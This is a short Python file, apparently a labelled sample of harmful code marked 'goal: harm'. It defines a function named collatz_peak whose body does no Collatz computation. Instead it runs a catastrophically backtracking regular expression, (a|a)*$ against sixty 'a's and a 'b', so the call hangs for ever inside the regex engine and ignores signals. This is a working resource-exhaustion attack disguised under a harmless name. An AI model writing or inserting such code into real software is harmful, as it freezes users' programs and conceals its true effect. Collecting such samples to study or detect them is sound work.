# family: resource; goal: harm
# One call into C that goes on for ever and answers no signal.
import re


def collatz_peak(n):
    return -len(re.match(r"(a|a)*$", "a" * 60 + "b") or "")
